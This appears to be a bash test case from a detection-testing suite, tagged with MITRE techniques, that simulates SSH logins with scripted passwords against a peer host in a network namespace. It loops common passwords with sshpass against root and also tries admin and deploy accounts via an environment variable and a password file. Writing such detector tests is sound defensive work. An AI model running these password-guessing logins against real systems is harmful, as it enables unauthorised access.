#!/bin/bash
# desc: logins scripted with a known password: sshpass -p, sshpass -e with SSHPASS, sshpass -f with a password file, tried against another host
# mitre: T1021.004, T1110, T1078
# expect: remote_login_with_scripted_password
source "$ATTACK_LIB"
source "$(dirname "$ATTACK_LIB")/netns.sh"

netns_create
try() { timeout 10 "$@" >/dev/null 2>&1 || true; }
opts="-o StrictHostKeyChecking=no -o ConnectTimeout=3"
for pw in 123456 password hunter2; do
	try sshpass -p "$pw" ssh $opts "root@$PEER" id
done
SSHPASS=Winter2024 try sshpass -e ssh $opts "admin@$PEER" id
echo 'Summer2024!' >pw && try sshpass -f pw ssh $opts "deploy@$PEER" id
